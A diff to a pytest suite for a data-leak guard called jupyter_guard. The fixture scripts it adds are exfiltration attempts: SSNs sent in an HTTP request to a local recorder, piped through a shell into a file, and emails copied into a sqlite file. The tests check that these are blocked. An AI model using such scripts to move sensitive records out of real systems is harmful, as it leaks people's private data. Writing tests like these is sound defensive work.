@@ -16,7 +16,10 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import new_workspace
+from tests.enforce.test_exits import Recorder
 from tests.kernelutil import Kernel, Reply, guarded_kernel
+
+pytestmark = pytest.mark.kernel
 
 EMAIL = re.compile(r"user\d+@example\.com")
 SSN = re.compile(r"(?<!\d)1000\d{5}(?!\d)")   # the warehouse's SSNs: 9 digits, no detector shape
@@ -37,6 +40,9 @@ SCRIPTS = {
     "dump_sqlite.py": "import sqlite3, json\nrows = sqlite3.connect('wh.sqlite').execute("
                       "'SELECT email, ssn FROM customers').fetchall()\n"
                       "json.dump(rows, open('out.json', 'w'))\n",
+    "to_sqlite.py": "import duckdb, sqlite3\nrows = " + READ.format(cols="email") + "\n"
+                    "con = sqlite3.connect('out.json')\ncon.execute('CREATE TABLE t (e TEXT)')\n"
+                    "con.executemany('INSERT INTO t VALUES (?)', rows)\ncon.commit()\n",
     "print_salary.py": "import duckdb\nfor r in duckdb.connect('staff.duckdb', read_only=True)"
                        ".sql('SELECT salary FROM staff').fetchall()[:5]:\n"
                        "    print('salary', r[0])\n",
@@ -45,6 +51,12 @@ SCRIPTS = {
                       "    print('bonus', r[0])\n",
     "argv.py": "import duckdb, subprocess\nrows = " + READ.format(cols="ssn") + "\n"
                "subprocess.run(['echo', ','.join(r[0] for r in rows[:20])])\n",
+    "get.py": "import duckdb, sys, urllib.request\nrows = " + READ.format(cols="{col}") + "\n"
+              "urllib.request.urlopen('http://127.0.0.1:' + sys.argv[1] + '/?d=' + "
+              "','.join(str(r[0]) for r in rows[:20]), timeout=10).read()\nprint('sent')\n",
+    "stdin.py": "import duckdb, subprocess\nrows = " + READ.format(cols="ssn") + "\n"
+                "subprocess.run(['sh', '-c', 'cat > out.json'], input='\\n'.join(r[0] for r in "
+                "rows), text=True)\n",
     "grandchild.py": "import subprocess, sys\nsubprocess.run([sys.executable, 'dump.py'])\n",
     "mpwork.py": "def dump(path):\n    import duckdb, json\n"
                  f"    json.dump({READ.format(cols='email')}, open(path, 'w'))\n",
@@ -127,6 +139,7 @@ REFUSED = [
     pytest.param(EXE + "!{sys.executable} dump_np.py", id="numpy-save"),
     pytest.param(EXE + "!{sys.executable} dump_pickle.py", id="pickle-dump"),
     pytest.param(EXE + "!{sys.executable} dump_sqlite.py", id="sqlite3"),
+    pytest.param(EXE + "!{sys.executable} to_sqlite.py", id="into-a-sqlite-file"),
     pytest.param(EXE + "!{sys.executable} grandchild.py", id="the-childs-own-child"),
 ]
 
@@ -172,6 +185,33 @@ def test_what_a_child_prints_from_a_plain_column_is_shown(kd: tuple[Kernel, Path
     k, _d = kd
     r = k.run(code.replace("{what}", "bonus"), timeout=180)
     assert r.ok and all(f"bonus {80000 + i * 13.37:.2f}" in r.stream for i in range(5)), r.stream
+
+
+@pytest.fixture()
+def rec() -> Iterator[Recorder]:
+    r = Recorder()
+    yield r
+    r.close()
+
+
+def test_a_child_sends_no_raw_value_in_a_request_line(kd: tuple[Kernel, Path], rec: Recorder):
+    k, d = kd
+    (d / "get_ssn.py").write_text(SCRIPTS["get.py"].replace("{col}", "ssn"))
+    r = k.run(EXE + f"!{{sys.executable}} get_ssn.py {rec.port}", timeout=180)
+    sent = bytes(rec.received).decode("latin-1")
+    assert not _raw(sent) and not _raw(_messages(r)), (sent[:300], _messages(r))
+    assert "Blocked by jupyter_guard [exfiltration]" in r.everything(), r.everything()
+    (d / "get_city.py").write_text(SCRIPTS["get.py"].replace("{col}", "city"))
+    r = k.run(EXE + f"!{{sys.executable}} get_city.py {rec.port}", timeout=180)
+    assert "sent" in r.stream and "Blocked" not in r.everything(), r.everything()
+    assert b"GET /?d=Paris,Lyon,Nice" in rec.received, bytes(rec.received)[:300]
+
+
+def test_a_childs_own_child_gets_no_raw_value_on_its_stdin(kd: tuple[Kernel, Path]):
+    k, d = kd
+    r, data = _run(k, d, EXE + "!{sys.executable} stdin.py")
+    assert not _raw(data) and not _raw(_messages(r)), (data[:300], _messages(r))
+    assert "Blocked by jupyter_guard [exfiltration]" in r.everything(), r.everything()
 
 
 def test_a_childs_own_child_gets_no_raw_value_on_its_command_line(kd: tuple[Kernel, Path]):
